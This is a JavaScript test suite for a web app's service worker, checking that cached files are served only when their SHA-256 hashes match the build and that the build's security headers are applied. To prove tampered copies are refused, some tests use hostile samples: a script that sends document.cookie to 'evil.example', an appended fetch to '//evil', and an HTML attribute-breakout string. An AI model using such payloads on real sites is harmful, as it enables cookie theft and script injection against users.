// The service worker's integrity check (web/offline/*.js): a cached body is served only
// when its SHA-256 is the build's; else the network's copy, else the HTTP cache's checked
// copy, else a plain message; pages and workers get the build's headers, not the cached
// ones. The cache and the network are fakes holding real Responses.

import { test } from "node:test";
import assert from "node:assert/strict";
import { random } from "../helpers.mjs";
import { failClosed, failClosedHtml, failClosedPolicy } from "../../../web/offline/fail-closed.js";
import { contentType, securityHeaders } from "../../../web/offline/headers.js";
import { fileName, sha256Hex, verifiedBytes } from "../../../web/offline/integrity.js";
import { earlyChecks, serveChecked } from "../../../web/offline/serve-checked.js";
import { switchingPage } from "../../../web/offline/switching-page.js";
import "../chinese.mjs"; // the Chinese catalog, loaded

const BASE = "https://knight.example/k/";
const WORKER_CSP = "default-src 'self'; script-src 'self' blob:";
const POLICY = {
  page: "default-src 'self'; frame-ancestors 'none'",
  byName: { "worker.mjs": WORKER_CSP, "learn-worker.mjs": WORKER_CSP },
  types: { ".html": "text/html; charset=utf-8", ".js": "text/javascript; charset=utf-8", ".mjs": "text/javascript; charset=utf-8", ".wasm": "application/wasm" },
};
const PAGE = { url: BASE, mode: "navigate", destination: "document" };
const SCRIPT = { url: `${BASE}app.js`, mode: "cors", destination: "script" };
const WORKER = { url: `${BASE}worker.mjs`, mode: "same-origin", destination: "worker" };

/** Cache Storage's one cache, as far as the service worker uses it. */
class FakeCache {
  entries = new Map();

  async match(key) {
    const stored = this.entries.get(key);
    return stored && new Response(stored.bytes, { headers: stored.headers });
  }

  async put(key, response) {
    this.entries.set(key, { bytes: new Uint8Array(await response.arrayBuffer()), headers: response.headers });
  }
}

/** The network: the server's bytes for fetchCopy("no-cache") (null: offline), the
 * browser's HTTP cache's for fetchCopy("force-cache") (null: none). */
function network({ server = null, httpCache = null } = {}) {
  const asked = [];
  const fetchCopy = async (mode) => {
    asked.push(mode);
    const bytes = mode === "no-cache" ? server : httpCache;
    if (bytes === null) throw new TypeError("Failed to fetch");
    return new Response(bytes, { headers: { "Content-Type": "text/plain" } });
  };
  return { fetchCopy, asked };
}

const encode = (text) => new TextEncoder().encode(text);
const bodyOf = async (response) => new Uint8Array(await response.arrayBuffer());

async function fileOf(name, bytes) {
  return { name, expected: await sha256Hex(bytes), key: `${BASE}${name === "./" ? "" : name}` };
}

async function serve(request, file, cache, net) {
  return serveChecked(request, file, { cache, fetchCopy: net.fetchCopy, policy: POLICY, home: BASE });
}

test("sha256Hex is SHA-256 (FIPS 180-2's test vectors)", async () => {
  assert.equal(await sha256Hex(encode("abc")), "ba7816bf8f01cfea414140de5dae2223b00361a396177a9cb410ff61f20015ad");
  assert.equal(await sha256Hex(new Uint8Array()), "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855");
});

test("a body changed in the cache, by any byte, is never served: the network's copy is, and put back", async () => {
  const rand = random(26);
  for (let trial = 0; trial < 40; trial += 1) {
    const good = Uint8Array.from({ length: 1 + Math.floor(rand() * 3000) }, () => Math.floor(rand() * 256));
    const bad = good.slice();
    const at = Math.floor(rand() * bad.length);
    bad[at] ^= 1 + Math.floor(rand() * 255); // one byte, changed to any other value
    const file = await fileOf("app.js", good);
    const cache = new FakeCache();
    await cache.put(file.key, new Response(bad));
    const net = network({ server: good });
    const served = await serve(SCRIPT, file, cache, net);
    assert.deepEqual(await bodyOf(served), good, `trial ${trial}: byte ${at} changed`);
    assert.deepEqual(net.asked, ["no-cache"]);
    assert.deepEqual(cache.entries.get(file.key).bytes, good, "the good copy replaces the changed one");
  }
});

test("a body the cache appends to, truncates or empties is not served", async () => {
  const good = encode("export const answer = 42;\n");
  const file = await fileOf("app.js", good);
  for (const bad of [encode("export const answer = 42;\nfetch('//evil')"), good.slice(0, -1), new Uint8Array()]) {
    const cache = new FakeCache();
    await cache.put(file.key, new Response(bad));
    assert.deepEqual(await bodyOf(await serve(SCRIPT, file, cache, network({ server: good }))), good);
  }
});

test("an intact cached file is served as the cached response itself, without the network", async () => {
  const good = encode("console.log('the build');");
  const file = await fileOf("app.js", good);
  const cached = new Response(good, { headers: { "Content-Type": "text/javascript" } });
  const cache = { match: async () => cached, put: async () => assert.fail("nothing to put back") };
  const net = network({ server: null });
  const served = await serveChecked(SCRIPT, file, { cache, fetchCopy: net.fetchCopy, policy: POLICY, home: BASE });
  // The same object: the browser keeps the code it compiled from a cached response.
  assert.equal(served, cached);
  assert.deepEqual(await bodyOf(served), good);
  assert.deepEqual(net.asked, []);
});

test("a file missing from the cache comes from the network, and is kept", async () => {
  const good = encode("the wasm's bytes");
  const file = await fileOf("pyodide.asm.wasm", good);
  const cache = new FakeCache();
  const net = network({ server: good });
  assert.deepEqual(await bodyOf(await serve(SCRIPT, file, cache, net)), good);
  assert.deepEqual(net.asked, ["no-cache"]);
  assert.deepEqual(cache.entries.get(file.key).bytes, good);
});

test("a network copy that is not the build's (a newer build on the server) is passed on, not kept", async () => {
  const file = await fileOf("app.js", encode("the build's"));
  const cache = new FakeCache();
  await cache.put(file.key, new Response(encode("poisoned")));
  const served = await serve(SCRIPT, file, cache, network({ server: encode("a newer build's") }));
  assert.equal(await served.text(), "a newer build's");
  assert.equal(new TextDecoder().decode(cache.entries.get(file.key).bytes), "poisoned", "nothing unchecked is kept");
});

test("offline, a changed page is replaced by the HTTP cache's copy only if that one is the build's", async () => {
  const good = encode("<!doctype html><title>the page</title>");
  const file = await fileOf("./", good);
  const poisoned = encode("<script>fetch('https://evil.example/?' + document.cookie)</script>");
  for (const [httpCache, served] of [[good, "the page"], [poisoned, null], [null, null]]) {
    const cache = new FakeCache();
    await cache.put(file.key, new Response(poisoned));
    const net = network({ server: null, httpCache });
    const response = await serve(PAGE, file, cache, net);
    const text = await response.text();
    assert.deepEqual(net.asked, ["no-cache", "force-cache"]);
    assert.ok(!text.includes("<script"), "the changed copy is never served");
    if (served) {
      assert.equal(response.status, 200);
      assert.ok(text.includes(served));
    } else {
      assert.equal(response.status, 503);
      assert.equal(text, failClosedHtml(BASE));
    }
  }
});

test("the fail-closed page is plain: both languages, a reload link, no script, a policy that loads nothing", async () => {
  const response = await failClosed(PAGE, BASE);
  const html = await response.text();
  assert.equal(response.status, 503);
  const policy = await failClosedPolicy();
  assert.equal(response.headers.get("Content-Security-Policy"), policy);
  assert.match(policy, /^default-src 'none'; style-src 'sha256-[^']+'; img-src data:;/);
  assert.doesNotMatch(policy, /script-src|unsafe/);
  // The one inline style is the one the policy allows.
  const style = html.match(/<style>([^]*)<\/style>/)[1];
  const hash = Buffer.from(await crypto.subtle.digest("SHA-256", encode(style))).toString("base64");
  assert.ok(policy.includes(`'sha256-${hash}'`));
  assert.equal(response.headers.get("Cache-Control"), "no-store");
  assert.match(html, /cannot be reached/);
  assert.match(html, /连不上网络/);
  assert.match(html, /<a href="https:\/\/knight\.example\/k\/">Reload<\/a>/);
  assert.match(html, /lang="zh-CN">重新加载<\/a>/);
  assert.doesNotMatch(html, /<script|Error|at \w+ \(/);
  assert.equal(html.split("<style>").length, 2, "one style sheet, the one the policy allows");
  // A file a page asked for (not a navigation): the same words as text, no HTML.
  const plain = await failClosed(SCRIPT, BASE);
  assert.equal(plain.status, 503);
  assert.match(plain.headers.get("Content-Type"), /^text\/plain/);
  assert.match(await plain.text(), /^Part of the copy of this page[^]*\n[^]*连不上网络[^]*\n$/);
  // A home address cannot break out of the link's attribute.
  assert.doesNotMatch(failClosedHtml('https://x.example/"><script>'), /"><script>/);
});

test("a page is served with the build's CSP, COOP and COEP, whatever headers the cache holds", async () => {
  const good = encode("<!doctype html><title>the page</title>");
  const file = await fileOf("./", good);
  const cache = new FakeCache();
  // Intact bytes stored with headers of the attacker's choosing: no CSP, another type.
  await cache.put(file.key, new Response(good, { headers: { "Content-Type": "text/plain", "Content-Security-Policy": "default-src *" } }));
  const served = await serve({ ...PAGE, url: `${BASE}?rows=6&cols=6` }, file, cache, network());
  assert.equal(served.status, 200);
  assert.equal(served.headers.get("Content-Security-Policy"), POLICY.page);
  assert.equal(served.headers.get("Content-Type"), "text/html; charset=utf-8");
  assert.equal(served.headers.get("Cross-Origin-Opener-Policy"), "same-origin");
  assert.equal(served.headers.get("Cross-Origin-Embedder-Policy"), "credentialless");
  assert.equal(served.headers.get("X-Content-Type-Options"), "nosniff");
  assert.deepEqual(await bodyOf(served), good);
});

test("a worker's script gets the workers' CSP and COEP; a page navigated to any file gets the page's", async () => {
  const good = encode("postMessage('ready');");
  const file = await fileOf("worker.mjs", good);
  const cache = new FakeCache();
  await cache.put(file.key, new Response(good, { headers: { "Content-Type": "text/javascript" } }));
  const served = await serve(WORKER, file, cache, network());
  assert.equal(served.headers.get("Content-Security-Policy"), WORKER_CSP);
  assert.equal(served.headers.get("Cross-Origin-Embedder-Policy"), "credentialless");
  assert.equal(served.headers.get("Content-Type"), "text/javascript; charset=utf-8");
  const json = await fileOf("app.js", good);
  await cache.put(json.key, new Response(good));
  const opened = await serve({ url: `${BASE}app.js`, mode: "navigate", destination: "document" }, json, cache, network());
  assert.equal(opened.headers.get("Content-Security-Policy"), POLICY.page);
  // A network copy that is the build's is dressed the same way.
  const fetched = await serve(WORKER, file, new FakeCache(), network({ server: good }));
  assert.equal(fetched.headers.get("Content-Security-Policy"), WORKER_CSP);
});

test("securityHeaders and contentType follow the build's policy by name", () => {
  assert.equal(securityHeaders("learn-worker.mjs", POLICY).get("Content-Security-Policy"), WORKER_CSP);
  assert.equal(securityHeaders("index.html", POLICY).get("Content-Security-Policy"), POLICY.page);
  assert.equal(contentType("./", POLICY.types), "text/html; charset=utf-8");
  assert.equal(contentType("pyodide.asm.wasm", POLICY.types), "application/wasm");
  assert.equal(contentType("presets/x.unknown", POLICY.types), "application/octet-stream");
  assert.equal(contentType("a.b/noextension", POLICY.types), "application/octet-stream");
});

test("only the build's own files are answered from the cache: a renamed or new name goes to the network", () => {
  const files = { "./": "h0", "app.js": "h1", "presets/8x8.json": "h2" };
  assert.equal(fileName(`${BASE}app.js`, BASE, files), "app.js");
  assert.equal(fileName(`${BASE}presets/8x8.json`, BASE, files), "presets/8x8.json");
  assert.equal(fileName(BASE, BASE, files), "./");
  assert.equal(fileName(`${BASE}?rows=6&cols=6`, BASE, files, true), "./");
  // Not the build's: a renamed file, an entry a script added, another folder, a query
  // string on a file (the cache never held it), a name from Object's prototype.
  assert.equal(fileName(`${BASE}app-renamed.js`, BASE, files), null);
  assert.equal(fileName(`${BASE}evil.html`, BASE, files, true), null);
  assert.equal(fileName("https://knight.example/app.js", BASE, files), null);
  assert.equal(fileName(`${BASE}app.js?v=2`, BASE, files), null);
  assert.equal(fileName(`${BASE}constructor`, BASE, files), null);
  assert.equal(fileName("https://other.example/k/app.js", BASE, files), null);
});

test("verifiedBytes refuses no response, a used body and an unknown hash", async () => {
  const good = encode("x");
  const expected = await sha256Hex(good);
  assert.equal(await verifiedBytes(undefined, expected), null);
  assert.equal(await verifiedBytes(new Response(good), undefined), null);
  const used = new Response(good);
  await used.arrayBuffer();
  assert.equal(await verifiedBytes(used, expected), null);
  assert.deepEqual(new Uint8Array(await verifiedBytes(new Response(good), expected)), good);
});

test("the switching page's CSP allows its own script by hash and nothing else", async () => {
  const response = await switchingPage();
  const html = await response.text();
  const script = html.match(/<script>([^]*)<\/script>/)[1];
  const hash = Buffer.from(await crypto.subtle.digest("SHA-256", encode(script))).toString("base64");
  const policy = response.headers.get("Content-Security-Policy");
  assert.match(policy, /default-src 'none'/);
  assert.ok(policy.includes(`script-src 'sha256-${hash}'`), policy);
  assert.match(html, /Updating to the newer version/);
  assert.match(html, /正在更新到新版本/);
});


test("files checked early are served as checked then, once, even if the cache changed since", async () => {
  const good = encode("the wasm, checked early");
  const file = await fileOf("pyodide.asm.wasm", good);
  const cache = new FakeCache();
  await cache.put(file.key, new Response(good));
  const timers = [];
  const early = earlyChecks({ files: { [file.name]: file.expected }, keyOf: () => file.key, keepMs: 20_000, setTimer: (fn, ms) => timers.push([fn, ms]) });
  early.start(cache, [file.name, "not-the-builds.js"]);
  // Poisoned after the check: what was checked is what is served.
  await cache.put(file.key, new Response(encode("poisoned after the check")));
  const net = network({ server: null });
  const served = await serve(SCRIPT, { ...file, early: early.take(file.name) }, cache, net);
  assert.deepEqual(await bodyOf(served), good);
  assert.deepEqual(net.asked, []);
  assert.equal(early.take(file.name), null, "once only");
  assert.equal(early.take("not-the-builds.js"), null, "only the build's files");
  assert.deepEqual(timers.map(([, ms]) => ms), [20_000]);
});

test("a file changed before its early check is not served: the check says null, and the network's copy is", async () => {
  const good = encode("the build's snapshot");
  const file = await fileOf("snapshot-1.bin.gz", good);
  const cache = new FakeCache();
  await cache.put(file.key, new Response(encode("a poisoned snapshot")));
  const early = earlyChecks({ files: { [file.name]: file.expected }, keyOf: () => file.key, keepMs: 1000, setTimer: () => {} });
  early.start(cache, [file.name]);
  const pending = early.take(file.name);
  assert.equal(await pending, null);
  const served = await serve(SCRIPT, { ...file, early: pending }, cache, network({ server: good }));
  assert.deepEqual(await bodyOf(served), good);
  assert.deepEqual(cache.entries.get(file.key).bytes, good);
});

test("an early check is dropped after its time; one that is running is not started twice", async () => {
  const good = encode("x");
  const file = await fileOf("python_stdlib.zip", good);
  const cache = new FakeCache();
  await cache.put(file.key, new Response(good));
  let matches = 0;
  const counting = { match: (key) => ((matches += 1), cache.match(key)) };
  const timers = [];
  const early = earlyChecks({ files: { [file.name]: file.expected }, keyOf: () => file.key, keepMs: 5, setTimer: (fn) => timers.push(fn) });
  early.start(counting, [file.name]);
  early.start(counting, [file.name]);
  assert.equal(matches, 1);
  timers.forEach((fn) => fn());
  assert.equal(early.take(file.name), null);
});

test("a page or worker is never taken from an early check: it is served with the build's headers", async () => {
  const good = encode("postMessage(1)");
  const file = await fileOf("worker.mjs", good);
  const cache = new FakeCache();
  await cache.put(file.key, new Response(good));
  const decoy = Promise.resolve(new Response(good, { headers: { "Content-Security-Policy": "default-src *" } }));
  const served = await serve(WORKER, { ...file, early: decoy }, cache, network());
  assert.equal(served.headers.get("Content-Security-Policy"), WORKER_CSP);
});
